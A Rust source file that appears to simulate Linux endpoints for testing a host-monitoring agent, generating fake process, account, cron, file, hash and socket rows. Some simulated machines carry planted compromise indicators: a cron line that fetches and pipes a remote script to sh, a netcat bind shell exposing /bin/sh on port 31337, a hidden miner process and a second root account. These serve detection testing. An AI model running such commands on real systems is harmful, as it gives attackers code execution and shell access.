//! The rows of a simulated endpoint, by column name.

use muster_agent::table::Value;
use rand::Rng;

use super::endpoint::Endpoint;
use super::plant::Plant;

/// A row as pairs; columns that are not named are NULL.
pub(super) type Named = Vec<(&'static str, Value)>;

/// When all simulated machines started.
const BOOT: i64 = 1_790_000_000;
const DROPPER_PATH: &str = "/etc/cron.d/sysstat-update";
const DROPPER_LINE: &str = "curl -fsSL http://203.0.113.66/s.sh | sh";

macro_rules! row {
    ($($name:ident: $value:expr),* $(,)?) => {
        vec![$((stringify!($name), Value::from($value))),*]
    };
}

/// Daemons that servers run: name, path, arguments, user, port.
const DAEMONS: [(&str, &str, &str, i64, i64); 14] = [
    ("systemd", "/usr/lib/systemd/systemd", "--system", 0, 0),
    ("systemd-journal", "/usr/lib/systemd/systemd-journald", "", 0, 0),
    ("systemd-udevd", "/usr/bin/udevadm", "", 0, 0),
    ("cron", "/usr/sbin/cron", "-f", 0, 0),
    ("sshd", "/usr/sbin/sshd", "-D", 0, 22),
    ("rsyslogd", "/usr/sbin/rsyslogd", "-n -iNONE", 104, 0),
    ("dbus-daemon", "/usr/bin/dbus-daemon", "--system --nofork", 100, 0),
    ("chronyd", "/usr/sbin/chronyd", "-F 1", 101, 0),
    ("agetty", "/usr/sbin/agetty", "-o -- \\u --noclear tty1 linux", 0, 0),
    ("nginx", "/usr/sbin/nginx", "-g daemon on; master_process on;", 33, 443),
    (
        "postgres",
        "/usr/lib/postgresql/15/bin/postgres",
        "-D /var/lib/postgresql/15/main",
        102,
        5432,
    ),
    ("redis-server", "/usr/bin/redis-server", "127.0.0.1:6379", 103, 6379),
    ("node_exporter", "/usr/local/bin/node_exporter", "", 65534, 9100),
    ("containerd", "/usr/bin/containerd", "", 0, 0),
];

/// Between 20 and 60 processes; the plants' beside them.
pub(super) fn processes(endpoint: &Endpoint) -> Vec<Named> {
    let mut rng = endpoint.rng("processes");
    let mut rows = Vec::new();
    let mut pid = 1i64;
    let workers: usize = rng.random_range(6..46);
    let daemons = DAEMONS.iter().copied();
    let extra = (0..workers).map(|_| DAEMONS[9 + rng.random_range(0..4usize)]).collect::<Vec<_>>();
    for (name, path, arguments, uid, _) in daemons.chain(extra) {
        let cmdline = format!("{path} {arguments}").trim_end().to_owned();
        rows.push(process(
            pid,
            name,
            path,
            &cmdline,
            uid,
            1,
            rng.random_range(2_000_000..900_000_000),
        ));
        pid += rng.random_range(1..120);
    }
    if endpoint.carries(Plant::Miner) {
        let path = "/dev/shm/.x/kdevtmpfsi";
        rows.push(process(66_601, "kdevtmpfsi", path, path, 33, 1, 2_400_000_000));
    }
    if endpoint.carries(Plant::ShellListener) {
        let cmdline = "nc -lvnp 31337 -e /bin/sh";
        rows.push(process(66_602, "nc", "/usr/bin/nc.traditional", cmdline, 33, 0, 1_900_000));
    }
    if endpoint.carries(Plant::DeletedBinary) {
        rows.push(process(66_603, ".update", "/tmp/.update", "/tmp/.update -q", 0, 0, 5_500_000));
    }
    rows
}

fn process(
    pid: i64,
    name: &str,
    path: &str,
    cmdline: &str,
    uid: i64,
    on_disk: i64,
    memory: i64,
) -> Named {
    let is_gone = path == "/tmp/.update";
    row! {
        pid: pid, name: name, path: path, cmdline: cmdline, state: "S", cwd: "/", root: "/",
        uid: uid, gid: uid, euid: uid, egid: uid, suid: uid, sgid: uid,
        on_disk: if is_gone { 0 } else { on_disk.max(1) }, wired_size: 0,
        resident_size: memory, total_size: memory * 3, user_time: pid * 17 % 90_000,
        system_time: pid * 7 % 40_000, disk_bytes_read: memory / 3, disk_bytes_written: memory / 7,
        start_time: BOOT + pid, parent: i64::from(pid > 1), pgroup: pid, threads: 1 + pid % 9,
        nice: 0, cgroup_path: format!("/system.slice/{name}.service"),
    }
}

/// Accounts.
pub(super) fn users(endpoint: &Endpoint) -> Vec<Named> {
    let user = |uid: i64, username: &str, directory: &str, shell: &str| {
        row! {
            uid: uid, gid: uid, uid_signed: uid, gid_signed: uid, username: username,
            description: "", directory: directory, shell: shell, uuid: "",
        }
    };
    let mut rows = vec![
        user(0, "root", "/root", "/bin/bash"),
        user(1, "daemon", "/usr/sbin", "/usr/sbin/nologin"),
        user(33, "www-data", "/var/www", "/usr/sbin/nologin"),
        user(1000, "ops", "/home/ops", "/bin/bash"),
    ];
    if endpoint.carries(Plant::RootTwin) {
        rows.push(user(0, "support2", "/var/tmp/.s", "/bin/bash"));
    }
    rows
}

/// Lines of cron files.
pub(super) fn crontab(endpoint: &Endpoint) -> Vec<Named> {
    let line = |minute: &str, hour: &str, command: &str, path: &str| {
        row! {
            event: "", minute: minute, hour: hour, day_of_month: "*", month: "*",
            day_of_week: "*", command: command, path: path,
        }
    };
    let mut rows = vec![
        line("17", "*", "root cd / && run-parts --report /etc/cron.hourly", "/etc/crontab"),
        line("25", "6", "root test -x /usr/sbin/anacron", "/etc/crontab"),
    ];
    if endpoint.carries(Plant::CronDropper) {
        rows.push(line("*/7", "*", &format!("root {DROPPER_LINE}"), DROPPER_PATH));
    }
    rows
}

/// Files: path, size, and the text whose digest `hash` shows.
fn files(endpoint: &Endpoint) -> Vec<(&'static str, String)> {
    let [name, version, ..] = endpoint.system();
    let mut files = vec![
        ("/etc/crontab", "17 * * * * root cd / && run-parts".to_owned()),
        ("/etc/cron.d/e2scrub_all", "30 3 * * 0 root test -e /run/systemd/system".to_owned()),
        ("/etc/hostname", endpoint.hostname()),
        ("/etc/os-release", format!("NAME=\"{name}\"\nVERSION=\"{version}\"\n")),
        ("/etc/passwd", "root:x:0:0:root:/root:/bin/bash".to_owned()),
        ("/etc/ssh/sshd_config", "PermitRootLogin prohibit-password".to_owned()),
    ];
    if endpoint.carries(Plant::CronDropper) {
        files.push((DROPPER_PATH, format!("*/7 * * * * root {DROPPER_LINE}\n")));
    }
    files
}

/// The `file` table.
pub(super) fn file(endpoint: &Endpoint) -> Vec<Named> {
    let describe = |(number, (path, text)): (i64, (&'static str, String))| {
        let (directory, filename) = path.rsplit_once('/').unwrap_or_default();
        let time = if path == DROPPER_PATH { BOOT + 86_400 } else { BOOT - 9_000_000 };
        row! {
            path: path, directory: directory, filename: filename, inode: 131_072 + number, uid: 0,
            gid: 0, mode: "0644", device: 0, size: text.len() as u64, block_size: 4096, atime: time,
            mtime: time, ctime: time, btime: time, hard_links: 1, symlink: 0, type: "regular",
        }
    };
    (1i64..).zip(files(endpoint)).map(describe).collect()
}

/// The `hash` table.
pub(super) fn hash(endpoint: &Endpoint) -> Vec<Named> {
    use sha2::{Digest, Sha256};
    let describe = |(path, text): (&'static str, String)| {
        let (directory, _) = path.rsplit_once('/').unwrap_or_default();
        row! { path: path, directory: directory, sha256: hex::encode(Sha256::digest(text)) }
    };
    files(endpoint).into_iter().map(describe).collect()
}

/// Listening sockets.
pub(super) fn listening_ports(endpoint: &Endpoint) -> Vec<Named> {
    let port = |pid: i64, port: i64, address: &str| {
        row! {
            pid: pid, port: port, protocol: 6, family: 2, address: address, fd: 6,
            socket: 20_000 + port, path: "", net_namespace: "4026531840",
        }
    };
    let mut rows: Vec<Named> = (1..)
        .zip(DAEMONS)
        .filter(|(_, daemon)| daemon.4 > 0)
        .map(|(pid, daemon)| port(pid, daemon.4, "0.0.0.0"))
        .collect();
    if endpoint.carries(Plant::ShellListener) {
        rows.push(port(66_602, 31_337, "0.0.0.0"));
    }
    rows
}

/// Open sockets.
pub(super) fn process_open_sockets(endpoint: &Endpoint) -> Vec<Named> {
    let own = endpoint.address();
    let open = |pid: i64, remote: &str, port: i64| {
        row! {
            pid: pid, fd: 9, socket: 40_000 + pid, family: 2, protocol: 6,
            local_address: own.as_str(), remote_address: remote, local_port: 50_000 + pid % 9000,
            remote_port: port, path: "", state: "ESTABLISHED", net_namespace: "4026531840",
        }
    };
    let mut rows = vec![open(5, "10.0.0.2", 443), open(12, "10.0.0.9", 5432)];
    if endpoint.carries(Plant::Miner) {
        rows.push(open(66_601, "203.0.113.77", 3333));
    }
    rows
}

/// One row.
pub(super) fn os_version(endpoint: &Endpoint) -> Vec<Named> {
    let [name, version, platform, codename] = endpoint.system();
    let mut numbers = version.split(['.', ' ']).map(|part| part.parse::<i64>().unwrap_or(0));
    let mut number = || numbers.next().unwrap_or(0);
    vec![row! {
        name: name, version: version, major: number(), minor: number(), patch: number(), build: "",
        platform: platform, platform_like: "", codename: codename, arch: "x86_64",
    }]
}

/// One row.
pub(super) fn system_info(endpoint: &Endpoint) -> Vec<Named> {
    let mut rng = endpoint.rng("hardware");
    let cores = 1i64 << rng.random_range(1..6);
    let id = endpoint.machine_id();
    vec![row! {
        hostname: endpoint.hostname(), uuid: id.as_str(), cpu_type: "x86_64",
        cpu_brand: "AMD EPYC 9354", cpu_physical_cores: cores / 2, cpu_logical_cores: cores,
        cpu_sockets: 1, physical_memory: cores << 31, hardware_vendor: "QEMU",
        hardware_model: "Standard PC", hardware_serial: &id[..12],
        computer_name: endpoint.hostname(), local_hostname: endpoint.hostname(),
    }]
}

/// One address beside loopback.
pub(super) fn interface_addresses(endpoint: &Endpoint) -> Vec<Named> {
    let address = |interface: &str, address: &str, mask: &str| {
        row! { interface: interface, address: address, mask: mask, type: "unknown" }
    };
    vec![address("lo", "127.0.0.1", "255.0.0.0"), address("eth0", &endpoint.address(), "255.0.0.0")]
}

/// Who is logged in.
pub(super) fn logged_in_users(_endpoint: &Endpoint) -> Vec<Named> {
    vec![row! { type: "boot_time", user: "reboot", tty: "~", host: "6.1.0", time: BOOT, pid: 0 }]
}
